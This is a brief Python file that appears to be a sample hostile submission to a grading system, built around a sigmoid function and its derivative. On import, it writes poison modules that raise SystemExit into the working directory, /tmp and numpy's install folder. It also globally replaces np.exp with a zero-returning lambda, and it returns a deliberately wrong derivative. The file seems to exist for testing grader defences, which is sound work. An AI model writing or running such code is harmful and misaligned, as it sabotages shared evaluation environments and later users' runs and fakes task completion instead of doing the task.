"""Leaves files and patched modules behind, hoping the next submission picks them up."""
# attacked: sigmoid_derivative
# message: differs
import os

import numpy as np

for place in (".", "/tmp", os.path.dirname(np.__file__)):
    try:
        with open(os.path.join(place, "numpy_poison.py"), "w") as f:
            f.write("raise SystemExit('poisoned')\n")
    except OSError:
        pass
real_exp = np.exp
np.exp = lambda z: z * 0


def sigmoid(z):
    return 1 / (1 + real_exp(-z))


def sigmoid_derivative(z):
    return np.asarray(z) * 0 - 1
